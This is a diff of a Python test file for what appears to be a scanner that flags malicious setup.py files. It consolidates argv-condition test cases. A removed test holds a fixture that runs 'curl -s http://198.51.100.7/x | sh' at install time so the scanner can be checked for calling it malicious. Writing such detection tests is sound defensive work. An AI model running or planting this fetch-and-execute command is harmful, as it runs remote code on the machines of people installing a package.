@@ -2416,7 +2416,19 @@ def test_a_variant_of_a_maintainer_command_is_a_maintainer_branch(command):
     assert scan({"setup.py": src}).verdict not in FLAGGED
 
 
-@pytest.mark.parametrize("test", ['sys.argv[-1] != "publish"', '"upload" not in sys.argv'])
+@pytest.mark.parametrize(
+    "test",
+    [
+        'sys.argv[-1] != "publish"',
+        '"upload" not in sys.argv',
+        '"install" in sys.argv or "sdist" in sys.argv',  # an install command too
+        'sys.argv[1] in ("sdist", "bdist_wheel")',
+        '"egg_info" in sys.argv',
+        'sys.argv[1] != "sdist"',  # every other command
+        '"--user" in sys.argv',  # an option a person hands through pip
+        'sys.argv[0] == "setup.py"',  # what an installer runs it as
+    ],
+)
 def test_a_branch_that_runs_on_every_other_command_runs_at_install(test):
     src = f"""
         import os, sys
@@ -4391,28 +4403,6 @@ def test_a_setup_branch_for_a_command_no_installer_gives_is_not_install_time(tes
     result = scan({"setup.py": src, "demo/__init__.py": ""})
     assert not [f for f in result.findings if f.severity in ("high", "critical")]
     assert result.verdict not in FLAGGED
-
-
-@pytest.mark.parametrize(
-    "test",
-    [
-        '"install" in sys.argv or "sdist" in sys.argv',  # an install command too
-        'sys.argv[1] in ("sdist", "bdist_wheel")',
-        '"egg_info" in sys.argv',
-        'sys.argv[1] != "sdist"',  # every other command
-        '"--user" in sys.argv',  # an option a person hands through pip
-        'sys.argv[0] == "setup.py"',  # what an installer runs it as
-    ],
-)
-def test_a_setup_branch_an_install_may_take_still_runs_at_install(test):
-    src = f"""
-        import os, sys
-        from setuptools import setup
-        if {test}:
-            os.system("curl -s http://198.51.100.7/x | sh")
-        setup(name="demo")
-    """
-    assert scan({"setup.py": src}).verdict == "malicious"
 
 
 # -- a download written into memory is on no disk ----------------------------------------------
